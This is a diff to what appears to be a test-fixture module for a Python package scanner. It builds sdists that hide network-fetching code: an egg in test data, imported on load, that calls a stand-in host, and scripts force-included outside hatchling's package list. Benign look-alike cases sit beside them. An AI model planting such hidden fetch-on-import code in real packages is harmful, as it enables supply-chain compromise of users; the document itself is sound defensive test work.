@@ -1,7 +1,10 @@
 """What builds run of the tree without a setup.py that says so: version tools, build files of compilers, entry points
 that setuptools finds in the tree; and packages that are kept among tests and installed under another name. None of
 these has a wheel."""
-from .package import attack, sdists
+import gzip
+
+from .package import attack, elf, honest, pyc, sdists
+from .reach import zipped
 
 FETCH = '''
     import urllib.request
@@ -142,3 +145,56 @@ def module_called_like_a_test(p):
     """setup.py installs a module whose name is that of a test. Must be held."""
     return p.sdist(setup='from setuptools import setup\n\nsetup(name="{n}", version="1.0", packages=["{m}"], py_modules=["test_{m}"])\n',
                    files={"test_{m}.py": FETCH})
+
+
+@attack
+def egg_among_tests_is_imported(p):
+    """An egg that lies among the tests of an sdist is put on sys.path by the package. Must be held."""
+    egg = zipped({"tables_more/__init__.py": b"import urllib.request\nurllib.request.urlopen('https://cdn.example.net/t').read()\n"})
+    return p.sdist(files={"{m}/tests/data/more.egg": egg}, init='''
+        import os
+        import sys
+
+        sys.path.insert(0, os.path.join(os.path.dirname(__file__), "tests", "data", "more.egg"))
+        import tables_more
+        ''')
+
+
+@attack
+def hatch_includes_beside_its_list(p):
+    """hatchling is told which packages there are, and has another folder included by force. Must be held."""
+    return p.sdist(pyproject=BACKEND.format("hatchling", "hatchling.build")
+                   + f'[tool.hatch.build.targets.wheel]\npackages = ["{p.module}"]\n'
+                   + f'[tool.hatch.build.targets.wheel.force-include]\n"lab" = "{p.module}/lab"\n',
+                   files={"lab/run.py": FETCH})
+
+
+@attack
+def list_of_another_back_end(p):
+    """The settings that list packages are of another back end than the one that builds. Must be held."""
+    return p.sdist(pyproject=BACKEND.format("setuptools", "setuptools.build_meta")
+                   + f'[tool.hatch.build.targets.wheel]\npackages = ["{p.module}"]\n',
+                   files={"lab/run.py": FETCH})
+
+
+@honest
+def broken_files_among_tests(p):
+    """Archives and programs that are broken on purpose, among the tests of an sdist."""
+    return p.sdist(files={"tests/data/cut.gz": gzip.compress(b"a" * 1000)[:-9], "tests/data/old.egg": zipped({"a/__init__.pyc": pyc("a = 1\n")}),
+                          "tests/data/hello-armv7l": elf()[:70], "tests/test_read.py": "def test_read():\n    assert True\n"})
+
+
+@honest
+def script_of_its_makers(p):
+    """hatchling is told which packages there are; what lies beside them is a script for those who work on it."""
+    return p.sdist(pyproject=BACKEND.format("hatchling", "hatchling.build")
+                   + f'[tool.hatch.build.targets.wheel]\npackages = ["{p.module}"]\n', files={"action/main.py": FETCH})
+
+
+@honest
+def checked_by_tools(p):
+    """Tools that check the source are told to leave the scripts out; the back end is told of a licence."""
+    return p.sdist(pyproject=BACKEND.format("scikit-build-core", "scikit_build_core.build")
+                   + f'[tool.scikit-build]\nwheel.packages = ["{p.module}"]\n'
+                   + '[tool.scikit-build.sdist.force-include]\n"../NOTICE.txt" = "NOTICE.txt"\n'
+                   + '[tool.pyright]\nexclude = ["scripts"]\n', files={"scripts/run.py": FETCH})
